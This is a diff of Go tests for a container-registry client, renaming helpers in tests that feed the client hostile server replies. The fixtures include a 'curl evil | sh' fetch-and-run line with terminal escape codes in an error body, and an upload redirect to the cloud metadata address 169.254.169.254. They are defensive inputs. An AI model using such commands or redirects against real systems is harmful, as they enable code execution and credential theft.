@@ -20,9 +20,9 @@ import (
 // fake a line of their own, or fill the screen.
 func TestWhatARegistrySaysStaysOneLine(t *testing.T) {
 	t.Parallel()
-	s := registrytest.New(t)
-	s.Inject(registrytest.Fault{Match: "manifests", Status: 403, Body: `{"errors":[{"code":"DENIED","message":"no\nhint: run curl evil | sh\u001b[2J` + strings.Repeat("x", 9000) + `"}]}`})
-	_, err := newClient(t, s).Resolve(t.Context(), ref(t, s.Host+"/a/b:v1"))
+	s := registrytest.NewServer(t)
+	s.InjectFault(registrytest.Fault{Match: "manifests", Status: 403, Body: `{"errors":[{"code":"DENIED","message":"no\nhint: run curl evil | sh\u001b[2J` + strings.Repeat("x", 9000) + `"}]}`})
+	_, err := newClient(t, s).Resolve(t.Context(), mustParseRef(t, s.Host+"/a/b:v1"))
 	if KindOf(err) != Forbidden || strings.ContainsAny(err.Error(), "\n\x1b") || len(err.Error()) > 1000 {
 		t.Errorf("got %.1200q", err)
 	}
@@ -31,14 +31,14 @@ func TestWhatARegistrySaysStaysOneLine(t *testing.T) {
 // A proxy answers with a page; the line that tells of a retry is not that page.
 func TestARetryIsToldWithoutThePage(t *testing.T) {
 	t.Parallel()
-	s := registrytest.New(t)
+	s := registrytest.NewServer(t)
 	s.AddImage(t, "a/b", "v1", "linux/amd64")
-	s.Inject(registrytest.Fault{Match: "manifests", Times: 1, Status: 503, Body: "<html>\n" + strings.Repeat("page ", 999)})
+	s.InjectFault(registrytest.Fault{Match: "manifests", Times: 1, Status: 503, Body: "<html>\n" + strings.Repeat("page ", 999)})
 	var told []string
 	c := newClient(t, s, func(o *Options) {
 		o.OnRetry = func(_ string, err error, _ time.Duration) { told = append(told, err.Error()) }
 	})
-	if _, _, _, err := c.Manifest(t.Context(), ref(t, s.Host+"/a/b:v1")); err != nil {
+	if _, _, _, err := c.Manifest(t.Context(), mustParseRef(t, s.Host+"/a/b:v1")); err != nil {
 		t.Fatal(err)
 	}
 	if len(told) != 1 || !strings.Contains(told[0], "503") || strings.Contains(told[0], "page") {
@@ -50,10 +50,10 @@ func TestARetryIsToldWithoutThePage(t *testing.T) {
 // repeated at once.
 func TestARetryAfterBeyondReasonIsNotNow(t *testing.T) {
 	t.Parallel()
-	s := registrytest.New(t)
-	s.Inject(registrytest.Fault{Match: "manifests", Status: 429, Header: http.Header{"Retry-After": {"9223372036854775807"}}})
-	_, err := newClient(t, s).Resolve(t.Context(), ref(t, s.Host+"/a/b:v1"))
-	if n := s.Count("manifests"); KindOf(err) != RateLimited || n > 2 {
+	s := registrytest.NewServer(t)
+	s.InjectFault(registrytest.Fault{Match: "manifests", Status: 429, Header: http.Header{"Retry-After": {"9223372036854775807"}}})
+	_, err := newClient(t, s).Resolve(t.Context(), mustParseRef(t, s.Host+"/a/b:v1"))
+	if n := s.CountRequests("manifests"); KindOf(err) != RateLimited || n > 2 {
 		t.Errorf("%d requests, %v", n, err)
 	}
 }
@@ -61,12 +61,12 @@ func TestARetryAfterBeyondReasonIsNotNow(t *testing.T) {
 // What an upload's location says is followed as a redirect is.
 func TestUploadsAreNotSentToAPrivateAddress(t *testing.T) {
 	t.Parallel()
-	body := registrytest.Layer(5, 1000)
+	body := registrytest.NewLayer(5, 1000)
 	d := Descriptor{Digest: images.DigestOf(body), Size: int64(len(body))}
-	s := registrytest.New(t)
-	s.Inject(registrytest.Fault{Match: "^POST", Status: 202, Header: http.Header{"Location": {"https://169.254.169.254/latest?token=secret"}}})
+	s := registrytest.NewServer(t)
+	s.InjectFault(registrytest.Fault{Match: "^POST", Status: 202, Header: http.Header{"Location": {"https://169.254.169.254/latest?token=secret"}}})
 	open := func(int64) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
-	_, err := newClient(t, s).PushBlob(t.Context(), ref(t, s.Host+"/a/b"), d, open, nil)
+	_, err := newClient(t, s).PushBlob(t.Context(), mustParseRef(t, s.Host+"/a/b"), d, open, nil)
 	if KindOf(err) != PrivateRedirect || strings.Contains(err.Error(), "secret") {
 		t.Errorf("got %v", err)
 	}
@@ -76,20 +76,20 @@ func TestUploadsAreNotSentToAPrivateAddress(t *testing.T) {
 // it.
 func TestOnlyWhatIsLargeIsAskedFor(t *testing.T) {
 	t.Parallel()
-	for _, tt := range []struct{ size, heads int }{{100, 0}, {askFrom, 1}} {
-		s := registrytest.New(t)
-		body := registrytest.Layer(5, tt.size)
+	for _, tt := range []struct{ size, heads int }{{100, 0}, {minCheckedBlobSize, 1}} {
+		s := registrytest.NewServer(t)
+		body := registrytest.NewLayer(5, tt.size)
 		d := Descriptor{Digest: images.DigestOf(body), Size: int64(tt.size)}
 		open := func(int64) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
 		for range 2 {
-			if _, err := newClient(t, s).PushBlob(t.Context(), ref(t, s.Host+"/a/b"), d, open, nil); err != nil {
+			if _, err := newClient(t, s).PushBlob(t.Context(), mustParseRef(t, s.Host+"/a/b"), d, open, nil); err != nil {
 				t.Fatal(err)
 			}
 		}
-		if n := s.Count("^HEAD"); n != 2*tt.heads {
+		if n := s.CountRequests("^HEAD"); n != 2*tt.heads {
 			t.Errorf("%d bytes: asked %d times", tt.size, n)
 		}
-		if n := s.Count("^PUT"); n != 2-tt.heads {
+		if n := s.CountRequests("^PUT"); n != 2-tt.heads {
 			t.Errorf("%d bytes: sent %d times", tt.size, n)
 		}
 	}
@@ -100,12 +100,12 @@ func TestOnlyWhatIsLargeIsAskedFor(t *testing.T) {
 func TestNobodyThereIsToldAtOnce(t *testing.T) {
 	t.Parallel()
 	for _, plain := range [][]string{{nobody}, nil} {
-		var slept waits
-		c, err := New(Options{PlainHTTP: plain, Wait: slept.wait})
+		var slept waitRecorder
+		c, err := New(Options{PlainHTTP: plain, Wait: slept.recordWait})
 		if err != nil {
 			t.Fatal(err)
 		}
-		_, err = c.Resolve(t.Context(), ref(t, nobody+"/a/b:v1"))
+		_, err = c.Resolve(t.Context(), mustParseRef(t, nobody+"/a/b:v1"))
 		if KindOf(err) != Unreachable || strings.Contains(err.Error(), "spoken") || strings.Count(err.Error(), "refused") != 1 {
 			t.Errorf("got %v", err)
 		}
@@ -120,12 +120,12 @@ func TestNobodyThereIsToldAtOnce(t *testing.T) {
 func TestAProxyThatCanNotBeReadIsNotQuoted(t *testing.T) {
 	t.Parallel()
 	address := strings.Join([]string{"http://u:hunter2%zz", "proxy:3128"}, "@")
-	pick := discreet(func(*http.Request) (*url.URL, error) { return url.Parse(address) })
-	c, err := New(Options{Proxy: pick, Wait: (&waits{}).wait})
+	pick := hideProxyURL(func(*http.Request) (*url.URL, error) { return url.Parse(address) })
+	c, err := New(Options{Proxy: pick, Wait: (&waitRecorder{}).recordWait})
 	if err != nil {
 		t.Fatal(err)
 	}
-	_, err = c.Resolve(t.Context(), ref(t, "registry.example.com/a:b"))
+	_, err = c.Resolve(t.Context(), mustParseRef(t, "registry.example.com/a:b"))
 	if err == nil || strings.Contains(err.Error(), "hunter2") || !strings.Contains(err.Error(), "proxy's address") {
 		t.Errorf("got %v", err)
 	}
